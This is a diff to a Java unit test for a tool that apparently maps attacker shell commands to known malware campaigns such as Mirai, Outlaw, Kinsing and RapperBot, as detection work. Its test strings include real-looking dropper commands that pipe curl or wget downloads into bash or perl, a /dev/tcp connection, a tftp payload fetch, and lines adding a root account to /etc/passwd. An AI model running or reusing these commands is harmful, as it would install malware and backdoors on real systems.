@@ -27,7 +27,6 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.params.provider.ValueSource;
 
 class CampaignsTest {
     private static final Analysis ANALYSIS = Analysis.standard();
@@ -42,8 +41,6 @@ class CampaignsTest {
             quoteCharacter = '\u0001',
             value = {
                 "cd ~; chattr -ia .ssh; lockr -ia .ssh   ! outlaw-mdrfckr",
-                "wget http://192.0.2.7/meow              ! meow-dropper",
-                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! perl-zed-dropper",
                 "wget -qO - 192.0.2.7/csx/perlNIK|perl   ! shellbot",
                 "cd /tmp; mkdir .X25-unix                ! outlaw-mdrfckr",
                 "sudo nohup ./kinsing &                  ! kinsing",
@@ -52,8 +49,29 @@ class CampaignsTest {
                 "/bin/busybox FGZNH                      ! mirai",
                 "cd /tmp; /bin/busybox mirai             ! mirai",
                 "/bin/busybox corona                     ! mirai",
+                "/bin/busybox kira; busybox OWARI        ! mirai",
+                "/bin/busybox josh0                      ! mirai",
                 "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
                 "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
+                "cd /tmp; mkdir .X19-unix                ! outlaw-mdrfckr",
+                "nohup /tmp/.X17-unix/.rsync/c/tsm -t 150 & ! outlaw-mdrfckr",
+                "echo 321 > /var/tmp/.var03522123        ! outlaw-mdrfckr",
+                "mkdir /var/tmp/.systemcache436621       ! outlaw-mdrfckr",
+                "/bin/busybox hostname FICORA            ! mirai",
+                "hostname TBOT                           ! mirai",
+                "./x telnet.arm7                         ! mirai",
+                "exec 5<>/dev/tcp/192.0.2.9/60110; echo -n 'GET /linux' >&5 ! p2pinfect",
+                "wget -O /tmp/pty3 http://192.0.2.9/x; /tmp/pty3 ! muhstik",
+                "cp ./m /bin/dhpcd; dhpcd                ! dhpcd",
+                "(curl -fsSL 192.0.2.9/ldr.sh||wget -q -O - 192.0.2.9/ldr.sh)|bash ! sysrv",
+                "curl -s http://192.0.2.9/xms | bash -sh ! 8220",
+                "echo 'suhelper:x:0:0::/:/bin/sh' >> /etc/passwd ! rapperbot",
+                "echo 'suhelper:x:0:0::/:/bin/sh' | tee -a /etc/passwd ! rapperbot",
+                "grep suhelper:x /etc/passwd || sed -i '$ a suhelper:x:0:0::/:/bin/sh' /etc/passwd ! rapperbot",
+                "export AAZHDE=1; grep AAZHDE= /proc/self/environ ! perfctl",
+                "AAZHDE=1 ./httpd                        ! perfctl",
+                "rm -f .i; cp .s .i; ls .s               ! hajime",
+                "sh tftp1.sh; sh tftp2.sh; sh ftp1.sh    ! gafgyt",
             })
     void namesKnownCampaigns(String command, String campaign) {
         Playbook playbook = of(command);
@@ -76,6 +94,8 @@ class CampaignsTest {
                 "linuxshell                              ! HABIT ! linuxshell-menu",
                 "wget http://192.0.2.7:283/x             ! HABIT ! four-second-dropper",
                 "echo xsec                               ! TOOL ! echo-xsec",
+                "wget http://192.0.2.7/meow              ! HABIT ! meow-dropper",
+                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! HABIT ! perl-zed-dropper",
                 "/gweerwe323f                            ! PROBE ! gweerwe323f",
             })
     void tellsToolsProbesAndHabitsApart(String command, CampaignKind kind, String name) {
@@ -85,25 +105,6 @@ class CampaignsTest {
         assertThat(playbook.tools()).extracting(CampaignMatch::kind).containsExactly(kind);
         assertThat(playbook.campaigns()).isEmpty();
         assertThat(playbook.family()).isEmpty();
-    }
-
-    @ParameterizedTest
-    @ValueSource(
-            strings = {
-                "uname -a",
-                "ps aux | grep -v grep | grep -i 'kdevtmpfsi\\|kinsing\\|miner'",
-                "pkill -9 kdevtmpfsi; killall kinsing",
-                "rm -rf /tmp/kinsing* /tmp/.X25-unix",
-                "echo kinsing",
-                "vi /etc/cron.hourly/gcc.sh",
-                "which redtail; ls /tmp/.X25-unix",
-                "/bin/busybox TOUCH",
-                "busybox wget",
-                "busybox nmap",
-                "/bin/busybox python3",
-            })
-    void namesNothingThatIsOnlyReadOrRemoved(String command) {
-        assertThat(all(of(command))).isEmpty();
     }
 
     @Test
